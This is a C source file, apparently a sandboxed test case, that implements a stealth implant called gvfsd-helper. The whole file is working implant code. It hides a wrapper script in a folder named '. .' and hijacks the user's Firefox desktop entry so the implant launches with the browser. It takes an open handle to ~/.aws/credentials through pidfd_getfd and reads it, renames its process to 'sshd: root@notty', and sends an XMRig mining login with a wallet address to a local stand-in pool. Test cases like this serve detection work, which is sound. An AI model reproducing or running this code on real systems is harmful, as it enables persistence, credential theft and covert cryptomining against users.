/* Case c_stealth_implant: a C implant, gvfsd-helper, that hides its files and itself.
 * Runs as auditor in the sandbox; every secret is fake, every connection is to 127.0.0.1.
 *  1. a hidden folder named only of dots and a space, ~/.local/share/". .", holding its
 *     browser wrapper ff-wrap.sh;
 *  2. ~/.local/share/applications/firefox.desktop whose Exec= runs the wrapper: the user's
 *     menu entry for Firefox now starts the implant first;
 *  3. /tmp/.X11-unix/.x, a dot-file in the X server's socket folder, holding a config;
 *  4. a child ("worker") that opens the fake ~/.aws/credentials and waits; the parent takes
 *     that open file from it with pidfd_open + pidfd_getfd and reads it;
 *  5. its own argv rewritten in memory to "sshd: root@notty" (no prctl: only ps shows it);
 *  6. a stratum login ("mining.subscribe", XMRig agent) to 127.0.0.1:3333, where an untraced
 *     stand-in pool answers.
 * Then it prints "gvfsd-helper: idle" and waits for the harness's SIGTERM. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void write_file(const char *path, const char *text, mode_t mode) {
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, mode);
  if (fd < 0) { perror(path); return; }
  if (write(fd, text, strlen(text)) < 0) perror("write");
  close(fd);
}

static void hide_files(const char *home) {
  char dir[256], path[320], text[1024];
  snprintf(dir, sizeof dir, "%s/.local", home);       /* a fresh home has no ~/.local */
  mkdir(dir, 0755);
  snprintf(dir, sizeof dir, "%s/.local/share", home);
  mkdir(dir, 0755);
  snprintf(dir, sizeof dir, "%s/.local/share/. .", home);
  mkdir(dir, 0700);
  snprintf(path, sizeof path, "%s/ff-wrap.sh", dir);
  write_file(path, "#!/bin/sh\n# start the helper, then the browser\n(\"$HOME/app/gvfsd-helper\" &) 2>/dev/null\nexec /usr/bin/firefox \"$@\"\n", 0755);

  snprintf(dir, sizeof dir, "%s/.local/share/applications", home);
  mkdir(dir, 0755);
  snprintf(path, sizeof path, "%s/firefox.desktop", dir);
  snprintf(text, sizeof text,
           "[Desktop Entry]\nName=Firefox ESR\nExec=\"%s/.local/share/. ./ff-wrap.sh\" %%u\n"
           "Icon=firefox-esr\nType=Application\nCategories=Network;WebBrowser;\n"
           "MimeType=text/html;x-scheme-handler/http;x-scheme-handler/https;\n", home);
  write_file(path, text, 0644);

  mkdir("/tmp/.X11-unix", 01777);
  write_file("/tmp/.X11-unix/.x", "pool=127.0.0.1:3333\nthreads=2\n", 0600);
}

static void steal_fd(const char *home) {
  int ready[2];
  if (pipe(ready) < 0) return;
  pid_t child = fork();
  if (child == 0) {
    char path[256];
    snprintf(path, sizeof path, "%s/.aws/credentials", home);
    int fd = open(path, O_RDONLY);         /* fd 4 or so: tell the parent which */
    dprintf(ready[1], "%d\n", fd);
    pause();
    _exit(0);
  }
  char buf[32] = {0};
  if (read(ready[0], buf, sizeof buf - 1) <= 0) return;
  int target_fd = atoi(buf);
  int pidfd = (int)syscall(SYS_pidfd_open, child, 0);
  if (pidfd < 0) { perror("pidfd_open"); return; }
  int stolen = (int)syscall(SYS_pidfd_getfd, pidfd, target_fd, 0);
  if (stolen < 0) {
    perror("pidfd_getfd");
  } else {
    char data[512];
    ssize_t n = pread(stolen, data, sizeof data, 0);
    printf("gvfsd-helper: took fd %d of pid %d (%zd bytes)\n", target_fd, (int)child, n);
    close(stolen);
  }
  kill(child, SIGTERM);
  waitpid(child, NULL, 0);
  close(pidfd);
}

static void stratum_login(void) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(3333)};
  inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
  if (connect(s, (struct sockaddr *)&a, sizeof a) < 0) { perror("connect"); close(s); return; }
  const char *sub = "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"XMRig/6.21.0\"]}\n";
  const char *auth = "{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\",\"x\"]}\n";
  send(s, sub, strlen(sub), 0);
  send(s, auth, strlen(auth), 0);
  char reply[256];
  ssize_t n = recv(s, reply, sizeof reply - 1, 0);
  printf("gvfsd-helper: pool answered %zd bytes\n", n);
  close(s);
}

static volatile sig_atomic_t stop;
static void on_term(int sig) { (void)sig; stop = 1; }

int main(int argc, char **argv) {
  (void)argc;
  const char *home = getenv("HOME");
  if (!home) home = "/home/auditor";
  setvbuf(stdout, NULL, _IONBF, 0);
  hide_files(home);
  steal_fd(home);
  stratum_login();
  /* The title ps shows: argv[0]'s memory overwritten, the rest blanked. */
  size_t room = 0;
  for (char **p = argv; *p; ++p) room += strlen(*p) + 1;
  memset(argv[0], 0, room);
  snprintf(argv[0], room, "%s", "sshd: root@notty");
  signal(SIGTERM, on_term);
  printf("gvfsd-helper: idle\n");
  while (!stop) pause();
  return 0;
}
